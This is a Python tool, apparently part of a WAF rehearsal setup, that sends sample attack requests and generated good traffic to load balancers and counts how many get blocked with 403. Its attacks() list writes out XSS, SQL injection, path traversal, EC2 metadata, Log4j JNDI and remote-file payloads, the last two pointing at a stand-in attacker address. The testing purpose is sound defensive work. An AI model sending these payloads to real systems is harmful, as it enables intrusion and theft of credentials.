"""Attacks of the kinds that AWS's managed groups are for, and good requests of both applications, sent to load balancers.

    python -m tools.attacks --url "$REHEARSAL_HTTP_URL" --host www.example.com --host api.example.com [--good 10000]

Prints how many of each kind got 403, which is what a web ACL answers. AWS publishes what its groups are for, with an example or
two: https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-list.html. Nothing here harms what it is sent to.
"""

from __future__ import annotations

import argparse
import json
import random
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection
from typing import NamedTuple
from urllib.parse import quote, urlencode, urlsplit

from rehearsal.alb.server import CLIENT

AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
FORM, JSON = "application/x-www-form-urlencoded", "application/json"
THREADS = 8
BLOCKED = 403


class Sent(NamedTuple):
    """A request. kind: what it is of, for the table; client: the address that it is sent from."""

    kind: str
    method: str
    path: str
    body: bytes = b""
    headers: tuple[tuple[str, str], ...] = ()
    client: str = "203.0.113.10"
    agent: str = AGENT


def attacks() -> Iterator[Sent]:
    """At least one of each rule that is published."""
    yield from _in_each_part("cross-site scripting", "<script>alert(document.cookie)</script>")
    yield from _in_each_part("SQL injection", "1' union select password from users --")
    yield from _in_each_part("SQL injection", "1 or 1=1")
    yield from _in_each_part("inclusion of local files", "../../../../etc/passwd")
    yield from _in_each_part("inclusion of remote files", "http://192.0.2.66/shell.txt")
    yield from _in_each_part("metadata of EC2", "http://169.254.169.254/latest/meta-data/iam/")
    yield from _in_each_part("Log4j", "${jndi:ldap://192.0.2.66/a}")
    yield Sent("Log4j", "GET", "/", headers=(("X-Api-Version", "${jndi:ldap://192.0.2.66/a}"),))
    yield from _in_each_part("Java deserialization", "java.lang.Runtime.getRuntime().exec")
    yield Sent("React server components", "POST", "/", b'{"then":"$1:__proto__:then"}', (("Content-Type", JSON),))
    yield Sent("exploitable paths", "GET", "/WEB-INF/web.xml")
    yield Sent("exploitable paths", "GET", "/.git/config")
    yield Sent("restricted extensions", "GET", "/app/debug.log")
    yield Sent("restricted extensions", "GET", "/settings.ini")
    yield Sent("PROPFIND", "PROPFIND", "/")
    yield Sent("no user agent", "GET", "/", agent="")
    yield Sent("bad bots", "GET", "/", agent="sqlmap/1.8")
    yield Sent("bad bots", "GET", "/", agent="nessus")
    yield Sent("long query", "GET", f"/?q={'a' * 2100}")
    yield Sent("long path", "GET", f"/{'a' * 1100}")
    yield Sent("long cookie", "GET", "/", headers=(("Cookie", f"a={'b' * 10300}"),))
    yield Sent("address of bad repute", "GET", "/", client="198.51.100.7")
    yield Sent("address that probes", "GET", "/", client="198.51.100.70")


def _in_each_part(kind: str, text: str) -> Iterator[Sent]:
    """A text as an argument, in a form, in JSON; of the path where it can be one."""
    yield Sent(kind, "GET", f"/search?q={quote(text)}")
    yield Sent(kind, "POST", "/search", urlencode({"q": text}).encode(), (("Content-Type", FORM),))
    yield Sent(kind, "POST", "/api/search", json.dumps({"q": text}).encode(), (("Content-Type", JSON),))


def good_requests(number: int, seed: int = 0) -> Iterator[Sent]:
    """What a browser and an API's client send to a Remix application and a Django one, from many addresses."""
    chance = random.Random(seed)
    for count in range(number):
        client = f"203.0.113.{count % 250 + 1}"
        yield chance.choice(GOOD)(chance)._replace(kind="good", client=client)


def _page(chance: random.Random) -> Sent:
    paths = [
        "/",
        "/login",
        "/jobs",
        "/candidates",
        "/settings/profile",
        f"/jobs/{chance.randint(1, 9999)}",
        "/healthcheck",
    ]
    return Sent("", "GET", chance.choice(paths), headers=_session(chance))


def _asset(chance: random.Random) -> Sent:
    name = chance.choice(["entry.client", "root", "manifest", "chunk"])
    return Sent(
        "", "GET", f"/build/{name}-{chance.getrandbits(40):010X}.{chance.choice(['js', 'css', 'woff2', 'svg'])}"
    )


def _search(chance: random.Random) -> Sent:
    words = [
        "senior engineer",
        "C++ & C#",
        "O'Brien",
        "R&D (remote)",
        "São Paulo",
        "50% part-time",
        "select committee",
        "union rep",
    ]
    query = urlencode(
        {"q": chance.choice(words), "page": chance.randint(1, 40), "sort": "-created_at", "_data": "routes/jobs"}
    )
    return Sent("", "GET", f"/jobs?{query}", headers=_session(chance))


def _login(chance: random.Random) -> Sent:
    form = {
        "email": f"ana.o'neil+{chance.randint(1, 99)}@example.com",
        "password": "P@ss; word-1! (long)",
        "remember": "on",
    }
    return Sent("", "POST", "/login", urlencode(form).encode(), (("Content-Type", FORM), *_session(chance)))


def _api(chance: random.Random) -> Sent:
    notes = [
        "Great with Python & SQL.",
        "Asked for 60,000 - 65,000 EUR.",
        "Moves to Genève (Switzerland).",
        "5 > 3 years, <br> no.",
    ]
    body = {
        "name": "Zoë Müller",
        "score": chance.random(),
        "note": chance.choice(notes),
        "tags": ["a", "b"],
        "active": True,
    }
    path = f"/api/v1/candidates/{chance.randint(1, 9999)}/"
    token = (("Authorization", f"Bearer {chance.getrandbits(128):x}"),)
    return Sent(
        "", chance.choice(["POST", "PUT", "PATCH"]), path, json.dumps(body).encode(), (("Content-Type", JSON), *token)
    )


def _listing(chance: random.Random) -> Sent:
    query = urlencode(
        {"limit": 50, "offset": chance.randint(0, 900), "created_at__gte": "2026-01-31T12:00:00Z", "o": "-id,name"}
    )
    return Sent("", "GET", f"/api/v1/jobs/?{query}", headers=_session(chance))


def _admin(chance: random.Random) -> Sent:
    form = {"csrfmiddlewaretoken": f"{chance.getrandbits(256):x}", "title": "Werkstudent (m/w/d)", "_save": "Save"}
    return Sent(
        "",
        "POST",
        f"/admin/jobs/job/{chance.randint(1, 99)}/change/",
        urlencode(form).encode(),
        (("Content-Type", FORM),),
    )


def _upload(chance: random.Random) -> Sent:
    """A file of more than the 8 KB that WAF sees."""
    mark = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    head = f'--{mark}\r\nContent-Disposition: form-data; name="cv"; filename="cv.pdf"\r\nContent-Type: application/pdf\r\n\r\n'
    body = head.encode() + b"%PDF-1.7 " + chance.randbytes(20_000).hex().encode() + f"\r\n--{mark}--\r\n".encode()
    return Sent("", "POST", "/candidates/upload", body, (("Content-Type", f"multipart/form-data; boundary={mark}"),))


GOOD = (_page, _asset, _search, _login, _api, _listing, _admin, _upload)


def _session(chance: random.Random) -> tuple[tuple[str, str], ...]:
    return (
        ("Cookie", f"__session=eyJ{chance.getrandbits(160):x}.{chance.getrandbits(80):x}; theme=dark"),
        ("Accept", "text/html"),
    )


class Sender:
    """Sends requests to load balancers at a URL, with their hosts in turn."""

    def __init__(self, url: str, hosts: list[str]) -> None:
        self._url, self._hosts = urlsplit(url), hosts

    def statuses(self, requests: list[Sent]) -> list[int]:
        """The status of each request, sent to each host in turn."""
        parts = [requests[start::THREADS] for start in range(THREADS)]
        with ThreadPoolExecutor(THREADS) as pool:
            told = [*pool.map(self._of_one_connection, parts)]
        found = [0] * len(requests)
        for start, statuses in enumerate(told):
            found[start::THREADS] = statuses
        return found

    def _of_one_connection(self, requests: list[Sent]) -> list[int]:
        connection = HTTPConnection(self._url.hostname or "", self._url.port, timeout=30)
        statuses = []
        for number, item in enumerate(requests):
            headers = {"Host": self._hosts[number % len(self._hosts)], CLIENT: item.client, **dict(item.headers)}
            connection.putrequest(item.method, item.path, skip_host=True, skip_accept_encoding=True)
            given = {
                **headers,
                **({"User-Agent": item.agent} if item.agent else {}),
                "Content-Length": str(len(item.body)),
            }
            for name, value in given.items():
                connection.putheader(name, value)
            connection.endheaders(item.body)
            answer = connection.getresponse()
            answer.read()
            statuses.append(answer.status)
        connection.close()
        return statuses


def main() -> None:
    """Send, and print the table."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--url", required=True, help="the load balancers' URL")
    parser.add_argument("--host", action="append", required=True, help="a host; several are asked in turn")
    parser.add_argument("--good", type=int, default=10_000, help="how many good requests")
    options = parser.parse_args()
    sender = Sender(options.url, options.host)
    hostile, good = [*attacks()], [*good_requests(options.good)]
    for title, requests in (("attacks", hostile), ("good requests", good)):
        statuses = sender.statuses(requests)
        blocked = Counter(item.kind for item, status in zip(requests, statuses, strict=True) if status == BLOCKED)
        print(
            f"{title}: {len(requests)} sent, {blocked.total()} blocked, statuses {dict(sorted(Counter(statuses).items()))}"
        )
        if title == "attacks":
            for kind, count in Counter(item.kind for item in requests).items():
                print(f"  {kind}: {blocked[kind]} of {count} blocked")


if __name__ == "__main__":
    main()
